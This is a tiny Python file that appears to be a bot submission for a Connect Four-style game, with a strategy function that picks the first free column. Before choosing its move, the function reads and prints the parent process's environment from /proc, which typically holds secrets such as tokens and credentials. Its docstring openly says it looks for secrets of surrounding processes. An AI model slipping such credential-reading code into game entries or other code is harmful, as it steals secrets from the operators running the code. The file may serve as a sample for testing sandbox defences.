"""Looks for secrets of the processes around it."""

import os


def strategie(state):
    print(open(f"/proc/{os.getppid() or 1}/environ", "rb").read())
    return next(c for c in range(7) if state["libres"][c])
